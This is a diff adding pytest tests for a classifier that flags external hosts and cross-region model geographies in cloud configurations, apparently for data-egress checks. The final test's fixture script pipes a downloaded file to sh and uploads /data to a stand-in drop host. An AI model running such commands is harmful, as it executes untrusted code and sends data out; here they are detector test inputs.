@@ -154,3 +154,42 @@ def test_not_principal_in_an_allow_is_public() -> None:
 def test_public_words_in_principal_properties(value: str) -> None:
     [c] = found({"group": value}, principals=("group",))
     assert c.kind == Kind.PUBLIC and c.principal
+
+
+@pytest.mark.parametrize("ip", ["203.0.113.10", "8.8.8.8", "2001:db8::1"])
+def test_an_address_outside_the_enclave_networks_is_a_host_wherever_it_is(ip: str) -> None:
+    c = classify(ip, ("targetIps", 0, "ip"))
+    assert c is not None and (c.kind, c.host) == (Kind.EXTERNAL_HOST, ip)
+
+
+@pytest.mark.parametrize(
+    "ip", ["10.0.0.2", "172.16.0.1", "192.168.1.1", "100.64.0.9", "fd00::1", "127.0.0.1", "0.0.0.0"]
+)
+def test_an_address_of_the_enclave_networks_is_no_destination(ip: str) -> None:
+    assert classify(ip, ("targetIps", 0, "ip")) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "path", "geography"),
+    [
+        ("arn:aws:bedrock:eu-west-1::inference-profile/global.anthropic.claude-sonnet-4-20250514-v1:0", (), "global"),
+        ("arn:aws:bedrock:eu-west-1:111111111101:inference-profile/us.meta.llama3-2-1b-instruct-v1:0", (), "us"),
+        ("eu.anthropic.claude-3-haiku-20240307-v1:0", ("foundationModel",), "eu"),
+    ],
+)
+def test_a_cross_region_inference_profile_names_a_geography(text: str, path: tuple[str, ...], geography: str) -> None:
+    c = classify(text, path)
+    assert c is not None and (c.kind, c.host) == (Kind.GEOGRAPHY, geography)
+
+
+def test_a_model_or_a_profile_id_elsewhere_is_no_geography() -> None:
+    model = classify("arn:aws:bedrock:eu-west-1::foundation-model/anthropic.claude-3-haiku-20240307-v1:0")
+    assert model is not None and model.kind == Kind.ARN and model.region == "eu-west-1"
+    assert classify("eu.anthropic.claude-3-haiku-20240307-v1:0", ("name",)) is None
+
+
+def test_urls_written_in_a_script_are_candidates_outside_aws_only() -> None:
+    script = "#!/bin/sh\ncurl -s https://s3.eu-west-1.amazonaws.com/x | sh\ncurl -T /data https://drop.example.net/u\n"
+    [c] = found({"userData": script})
+    assert (c.kind, c.host) == (Kind.EXTERNAL_HOST, "drop.example.net")
+    assert found({"comment": "see https://docs.example.net for the format"}) == []  # prose is not code
